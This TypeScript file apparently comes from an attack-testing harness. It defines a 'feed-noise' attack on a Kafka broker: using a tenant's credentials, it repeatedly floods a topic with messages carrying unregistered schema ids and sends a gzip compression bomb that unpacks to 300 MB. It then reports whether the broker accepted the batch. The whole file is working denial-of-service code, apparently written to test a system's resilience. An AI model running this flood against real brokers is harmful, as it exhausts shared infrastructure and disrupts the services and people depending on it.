import kafkajs, { type Producer } from 'kafkajs';
import { type Attack, repeat } from '../attack.ts';

const TOPIC = 'training-feed.acme';
/** Messages of one request, each with a schema id of its own that nobody has registered. */
const MESSAGES = 2_000;
/** What one compressed batch unpacks to: as many values of a megabyte, which compress to almost nothing. */
const UNPACKED_MEGABYTES = 300;
const MEGABYTE = 1024 * 1024;

/** Line 11: messages that mean nothing, and a batch that is small only while it is packed. */
export const feedNoise: Attack = {
  name: 'feed-noise',
  does: '2,000 unknown schema ids a request, and a batch that unpacks to 300 MB, over and over',
  run: async (target, signal, report) => {
    const account = target.endpoints.kafka.users['acme-hr'];
    if (account === undefined) throw new Error('acme has no Kafka user');
    const kafka = new kafkajs.Kafka({
      clientId: 'hostile-feed',
      brokers: target.endpoints.kafka.brokers,
      sasl: { mechanism: 'scram-sha-512', ...account },
      logLevel: kafkajs.logLevel.NOTHING,
    });
    const producer = kafka.producer({ createPartitioner: kafkajs.Partitioners.DefaultPartitioner });
    await producer.connect();
    try {
      await Promise.all([
        repeat(signal, { atOnce: 1, pauseMs: 500 }, () => sendNoise(producer)),
        repeat(signal, { atOnce: 1, pauseMs: 10_000 }, () => sendBomb(producer, report)),
      ]);
    } finally {
      await producer.disconnect();
    }
  },
};

let schemaId = 1_000_000;

async function sendNoise(producer: Producer): Promise<void> {
  const messages = Array.from({ length: MESSAGES }, () => {
    const value = Buffer.alloc(16);
    schemaId += 1;
    value.writeUInt32BE(schemaId, 1);
    return { value };
  });
  // What the broker makes of it is its own matter: it may be busy with the other batches.
  await producer.send({ topic: TOPIC, messages }).catch(() => undefined);
}

async function sendBomb(producer: Producer, report: (problem: string) => void): Promise<void> {
  const value = Buffer.alloc(MEGABYTE);
  const messages = Array.from({ length: UNPACKED_MEGABYTES }, () => ({ value, partition: 0 }));
  const taken = await producer
    .send({ topic: TOPIC, messages, compression: kafkajs.CompressionTypes.GZIP })
    .then(
      () => true,
      () => false,
    );
  if (taken) report(`the broker has taken a batch of ${UNPACKED_MEGABYTES} MB for a topic of 1 MiB`);
}
